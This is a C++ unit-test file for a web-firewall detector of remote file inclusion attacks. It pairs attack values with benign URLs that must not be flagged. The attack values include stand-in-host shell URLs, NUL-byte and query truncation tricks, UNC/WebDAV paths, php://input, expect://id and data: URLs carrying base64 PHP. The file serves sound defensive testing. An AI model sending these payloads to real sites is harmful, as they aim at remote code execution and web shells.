#include <string>
#include <vector>

#include "gtest/gtest.h"
#include "runtime/detect/detector.h"
#include "tests/unit/detect/detect_test_support.h"
#include "tests/unit/detect/detector_cases.h"

namespace fnguard::detect {
namespace {

using testing::Case;
using testing::Detects;

std::string Repeat(const std::string& s, size_t n) {
  std::string r;
  r.reserve(s.size() * n);
  for (size_t i = 0; i < n; ++i) r += s;
  return r;
}

TEST(RfiTest, DetectsAttacks) {
  const std::vector<std::string> attacks = {
      "http://203.0.113.5/shell.txt?",
      "https://evil.example/x.php?",
      "http://198.51.100.2/backdoor.php",
      "php://input",
      "data://text/plain;base64,PD9waHAgcGhwaW5mbygpOz8+",
      "expect://id",
      "ftp://evil.example/a.txt?",
      "https://evil.example?",  // the whole value: the host's index page, truncated
  };
  for (const std::string& a : attacks) {
    Case c;
    c.value = a;
    EXPECT_TRUE(Detects(RfiDetector(), c)) << a;
    c.location = event::Location::kBody;
    c.path = "body.v";
    EXPECT_TRUE(Detects(RfiDetector(), c)) << a;
  }
}

TEST(RfiTest, IgnoresBenign) {
  const std::vector<std::string> benign = {
      "https://example.com/page?x=1",
      "see https://docs.example.org/guide.html",
      "http://example.com/",
      "https://cdn.example.com/app.js",
      "https://example.com/api/status.php",
      "Have you seen https://example.com?",
      "https://example.com? is down",
      // Page and avatar addresses built with an empty query.
      "https://avatars.example.net/u/5?",
      "https://shop.example.com/search?",
      // Static files with ordinary queries, FTP links to text and to source
      // mentioned in prose.
      "https://cdn.example/logo.png?w=200",
      "https://example.com/readme.txt?download=1",
      "ftp://ftp.example.org/pub/README.txt",
      "see ftp://ftp.example.org/pub/x.php for the source",
      "https://example.com/tools.php?cmd=list",
  };
  for (const std::string& b : benign) {
    Case c;
    c.value = b;
    Match m;
    EXPECT_FALSE(Detects(RfiDetector(), c, &m)) << b << " -> " << m.rule_id;
    c.location = event::Location::kBody;
    c.path = "body.text";
    EXPECT_FALSE(Detects(RfiDetector(), c, &m)) << b << " -> " << m.rule_id;
  }
}

// A NUL after a script URL cuts off the extension the application appends.
// The normalizer decodes "%00" and drops the byte, so the rule reads the
// value as sent: a raw NUL, "%00" or "%2500" (encoded twice).
TEST(RfiTest, NulTruncatedScriptUrl) {
  for (std::string url : {"http://evil.example/shell.txt", "https://203.0.113.9/c99.php"}) {
    for (std::string nul : {std::string(1, '\0'), std::string("%00"), std::string("%2500")}) {
      EXPECT_EQ(testing::RuleOf(RfiDetector(), url + nul), "rfi.truncated_url") << url << nul;
      EXPECT_EQ(testing::RuleOf(RfiDetector(), url + nul, event::Location::kBody),
                "rfi.truncated_url")
          << url << nul;
    }
  }
  // A page, not a script, and text that only mentions a NUL.
  EXPECT_EQ(testing::RuleOf(RfiDetector(), "https://example.com/index.html%00"), "");
  EXPECT_EQ(testing::RuleOf(RfiDetector(), "see https://example.com/notes (100%00 sure)"), "");
}

// A UNC path is a remote file to Windows: PHP there includes
// `\\host\share\x.php` over SMB (and `\\host@SSL@443\DavWWWRoot\x.php` over
// WebDAV) even with allow_url_include off. The URL rules apply: a truncation
// after a named file, or a script on an address or in an include field. A
// value of two forward slashes is a protocol-relative URL, read by the URL
// rules without a ':' in the value.
TEST(RfiTest, UncPathsAndProtocolRelativeUrls) {
  for (const std::string v :
       {R"(\\203.0.113.5\share\shell.php)", R"(\\203.0.113.5\share\shell.txt?)",
        R"(\\evil.example\share\notes.txt?)", R"(\\?\UNC\203.0.113.5\share\x.php)",
        R"(\/203.0.113.5/share/x.php)", R"(  \\[2001:db8::5]\share\x.inc)"}) {
    EXPECT_EQ(testing::RuleOf(RfiDetector(), v), "rfi.unc_path") << v;
    EXPECT_EQ(testing::RuleOf(RfiDetector(), v, event::Location::kBody), "rfi.unc_path") << v;
  }
  Case c;
  c.value = R"(\\evil.example@SSL@443\DavWWWRoot\shell.php)";
  c.path = "query.page";
  Match m;
  ASSERT_TRUE(Detects(RfiDetector(), c, &m));
  EXPECT_EQ(m.rule_id, "rfi.unc_path");
  c.path = "query.q";
  EXPECT_FALSE(Detects(RfiDetector(), c));
  EXPECT_EQ(testing::RuleOf(RfiDetector(), "//evil.example/shell.txt?"), "rfi.truncated_url");
  EXPECT_EQ(testing::RuleOf(RfiDetector(), "//203.0.113.5/share/x.php"), "rfi.remote_script");
  // Shares holding documents, a script on a named server outside an include
  // field, and protocol-relative links to pages and assets.
  for (const std::string v :
       {R"(\\fileserver\finance\q3.xlsx)", R"(\\nas01\scripts\backup.ps1)",
        R"(\\corp.example\dfs\docs\readme.txt)", R"(\\build01\tools\deploy.php)",
        R"(\\server\share)", R"(\\)", R"(\\\\)", "//cdn.example.com/img/logo.png",
        "//example.com/page?x=1", "// a comment", R"(C:\\Users\\ada\\notes.txt)"}) {
    EXPECT_EQ(testing::RuleOf(RfiDetector(), v), "") << v;
    EXPECT_EQ(testing::RuleOf(RfiDetector(), v, event::Location::kBody), "") << v;
  }
}

// A text or image file handed a command parameter (the included web
// shell reads it), and a script's source fetched over FTP.
TEST(RfiTest, StaticFileWithCommandAndFtpScript) {
  for (const std::string a :
       {"http://evil.example/x.txt?cmd=id", "http://evil.example/shell.txt?&cmd=ls",
        "https://evil.example/c.GIF?a=1&Exec=uname", "ftp://evil.example/x.php",
        "ftp://evil.example/inc/config.inc"}) {
    Match m;
    EXPECT_TRUE(Detects(RfiDetector(), Case{a}, &m)) << a;
    EXPECT_EQ(m.rule_id, "rfi.remote_script") << a;
  }
}

// A run of '?' or a query that is only a script extension truncates or
// disguises what the application appends.
TEST(RfiTest, TruncatingTailsAndExtensionQueries) {
  for (const std::string a : {"http://evil.example/c.txt???", "http://evil.example/inc.jpg?.php",
                              "http://evil.example/s.txt?#"}) {
    Case c;
    c.value = a;
    Match m;
    ASSERT_TRUE(Detects(RfiDetector(), c, &m)) << a;
  }
  for (const std::string b : {"https://cdn.example/u/5?", "https://example.com/report.pdf?.x",
                              "https://example.com/search?q=.php"}) {
    Case c;
    c.value = b;
    Match m;
    EXPECT_FALSE(Detects(RfiDetector(), c, &m)) << b << " -> " << m.rule_id;
  }
}

TEST(RfiTest, CompletesOnPathologicalInput) {
  testing::RunsOnLargeInput(RfiDetector(), std::string(1 << 20, ':'));
  testing::RunsOnLargeInput(RfiDetector(), Repeat("http://", 1 << 17));
  testing::RunsOnLargeInput(RfiDetector(), "\\\\" + Repeat("a", 1 << 20) + "\\x.php");
  testing::RunsOnLargeInput(RfiDetector(), Repeat("\\", 1 << 19));
}

TEST(RfiTest, ReportsItsId) {
  EXPECT_EQ(Get(RfiDetector().id()).id(), RfiDetector().id());
}

TEST(RfiTest, IncludeParameterWithScriptUrl) {
  Case c;
  c.value = "https://attacker.example/shell.php";
  c.path = "query.page";
  EXPECT_TRUE(Detects(RfiDetector(), c));
  c.path = "query.homepage_link";
  EXPECT_FALSE(Detects(RfiDetector(), c));
}

// A data: URL whose base64 body is PHP code, whatever media type it names:
// PHP's include() runs it. Other data: URLs (images, text) are data.
TEST(RfiTest, DataUrlCarryingPhpCode) {
  for (const char* v : {"data:;base64,PD9waHAgZWNobyAxOyA/Pg==",          // <?php echo 1; ?>
                        "data:image/gif;base64,PD89YGlkYDs/Pg==",         // <?=`id`;?>
                        "DATA:text/x-php;BASE64,ICA8P3BocCBwaHBpbmZvKCk7"}) {  // "  <?php phpinfo();"
    Case c;
    c.value = v;
    Match m;
    ASSERT_TRUE(Detects(RfiDetector(), c, &m)) << v;
    EXPECT_EQ(m.rule_id, "rfi.php_wrapper") << v;
  }
  for (const char* v : {"data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAAB",
                        "data:;base64,SGVsbG8sIHdvcmxkIQ==",              // Hello, world!
                        "data:text/plain,<?php is how PHP starts",
                        "data:;base64,", "data:;base64,PD9w"}) {
    Case c;
    c.value = v;
    EXPECT_FALSE(Detects(RfiDetector(), c)) << v;
  }
  testing::RunsOnLargeInput(RfiDetector(), Repeat("data:", 1 << 18) + ",");
}

// A remote URL (a host or a directory) in a field whose name says it holds a
// server directory to include from.
TEST(RfiTest, RemoteUrlAsServerDirectory) {
  Case c;
  c.value = "https://attacker.example/";
  for (const char* path : {"query.install_dir", "query[\"settings[base_path]\"]",
                           "body.conf.root", "query.BASEDIR", "query.docRoot",
                           "body.site_folder"}) {
    c.path = path;
    EXPECT_TRUE(Detects(RfiDetector(), c)) << path;
  }
  c.path = "query.include_path";
  c.value = "ftps://attacker.example";
  EXPECT_TRUE(Detects(RfiDetector(), c));
  // Unqualified or redirect-like names, file URLs, URLs inside prose, and
  // relative paths are not it.
  const std::vector<std::pair<std::string, std::string>> benign = {
      {"query.path", "https://example.com/"},
      {"query.return_path", "https://example.com/"},
      {"query.image_dir", "https://cdn.example.com/"},
      {"query.install_dir", "https://example.com/logo.png"},
      {"query.install_dir", "see https://example.com/"},
      {"query.install_dir", "/opt/app/"},
      {"query.install_dir", "https://example.com/?page=2"},
  };
  for (const auto& [path, value] : benign) {
    c.path = path;
    c.value = value;
    Match m;
    EXPECT_FALSE(Detects(RfiDetector(), c, &m)) << path << " " << value << " -> " << m.rule_id;
  }
}

TEST(RfiTest, QueriesThatAbsorbTheAppendedName) {
  for (const std::string v :
       {"http://evil.example/shell.txt?/", "http://evil.example/b.txt?&page=",
        "https://evil.example/raw/shell.php?ignore=", "https://cdn.evil.example/p.jpg?x=.php",
        "http://203.0.113.66/x?cmd=id&", "https://pastebin.com/raw/Xk9pQ2vL?"}) {
    EXPECT_EQ(testing::RuleOf(RfiDetector(), v), "rfi.truncated_url") << v;
  }
  for (const std::string v :
       {"https://example.com/search?q=a&", "https://example.com/page?id=", "https://cdn.example/u/5?",
        "https://example.com/docs/readme.txt?v=2", "https://example.com/a.jpg?x=.png"}) {
    EXPECT_EQ(testing::RuleOf(RfiDetector(), v), "") << v;
  }
}

// A NUL right after a file name's extension cuts off what the application
// appends, whatever that name's own extension is.
TEST(RfiTest, NulAfterAnyFileName) {
  for (const std::string a : {"https://evil.test:8443/.x/shell.php.txt%00.html",
                              "https://evil.test/shell.php%00.html", "http://evil.test/a.txt%2500"}) {
    EXPECT_EQ(testing::RuleOf(RfiDetector(), a), "rfi.truncated_url") << a;
  }
  for (const std::string b : {"https://example.com/report.pdf", "https://example.com/a%00b/c.html"}) {
    EXPECT_EQ(testing::RuleOf(RfiDetector(), b), "") << b;
  }
}

// A query that absorbs an appended extension only once decoded again is a
// query as sent ("?search=%22C%23%22" holds no empty parameter).
TEST(RfiTest, AbsorbingQueryAsSent) {
  EXPECT_EQ(testing::RuleOf(RfiDetector(),
                            "https://en.wikipedia.org/w/index.php?search=%22C%23%22+language"),
            "");
  EXPECT_EQ(testing::RuleOf(RfiDetector(), "http://evil.example/shell.php?x="), "rfi.truncated_url");
}

TEST(RfiTest, SchemeInAlternatingCase) {
  EXPECT_EQ(testing::RuleOf(RfiDetector(), "hTtP://files.example/a.txt"), "rfi.scheme_case_evasion");
  EXPECT_EQ(testing::RuleOf(RfiDetector(), "hTTps://files.example/notes.txt"),
            "rfi.scheme_case_evasion");
  for (const std::string v : {"Http://example.com/a", "HTTPS://EXAMPLE.COM/", "httpS://x.example/",
                              "see hTtP://x.example/ in the log"}) {
    EXPECT_EQ(testing::RuleOf(RfiDetector(), v), "") << v;
  }
}

}  // namespace
}  // namespace fnguard::detect
